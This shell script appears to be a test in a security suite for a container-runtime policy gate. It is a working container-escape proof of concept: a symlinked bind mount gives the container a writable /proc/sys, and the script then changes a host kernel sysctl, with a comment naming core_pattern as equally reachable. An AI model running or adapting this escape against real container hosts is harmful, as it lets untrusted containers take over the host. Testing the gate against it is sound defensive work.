#!/bin/sh
# found-10: a bind mount whose source is the container's own /proc/sys,
# reached through its root filesystem's host path, gives the container a
# second, writable /proc/sys that linux.readonlyPaths never covers. At
# the judgement the source is a plain directory of the image
# (rootfs/proc/sys); by the time runc binds it, runc has mounted the
# container's proc there. The check after create passes it: the mount is
# of a proc instance the host has not mounted, which verify reads as
# "the container's own filesystem". The source is named through a link
# in a host directory an API user can write (a volume shared with another
# of their containers); an engine's rootfs lies outside the default
# sensitive subtrees whenever its data root is moved (Docker's
# data-root=/data/docker). Proof: the container changes the host's
# kernel.core_uses_pid (a global sysctl; core_pattern works the same way).
# Engine path: confine-runtime create, then start.
# Exit 0: the host sysctl changed; 1: refused.
. "$(dirname "$0")/lib.sh"
policy
B=$W/bundle
mkdir -p "$W/shared/ok"
orig=$(cat /proc/sys/kernel/core_uses_pid)
new=$((1 - orig))
bundle "$B" "
c['mounts'].append({'destination':'/mnt','type':'bind','source':w+'/shared/link','options':['rbind','rw']})
c['process']['args']=['sh','-c','echo $new > /mnt/kernel/core_uses_pid; echo rc=\$? > /out/done']
"
mkdir -p "$B/rootfs/proc/sys"
# what the other container writes into the shared directory
ln -s "$B/rootfs/proc/sys" "$W/shared/link"
id=rt10-$$
R=$W/runc
cleanup () {
  echo "$orig" > /proc/sys/kernel/core_uses_pid
  runc --root "$R" delete -f "$id" 2>/dev/null
}
CONFINE_POLICY=$W/policy.json "$BUILD/confine-runtime" --root "$R" --log "$W/log.json" --log-format json \
  create --bundle "$B" --pid-file "$W/pid" "$id" < /dev/null > "$W/create.out" 2>&1; rc=$?
cat "$W/create.out"
[ $rc = 0 ] || { grep -q 'confine: refused' "$W/create.out" && { echo "gate refused the create"; exit 1; }; echo "create failed ($rc)"; exit 2; }
CONFINE_POLICY=$W/policy.json "$BUILD/confine-runtime" --root "$R" start "$id" < /dev/null; src=$?
i=0; while [ ! -e "$W/out/done" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
cat "$W/out/done" 2>/dev/null
now=$(cat /proc/sys/kernel/core_uses_pid)
if [ "$now" = "$new" ]; then
  echo "ATTACK WORKED: start exit $src; the container set the host's kernel.core_uses_pid from $orig to $now"; exit 0; fi
echo "host sysctl unchanged (start exit $src)"; exit 1
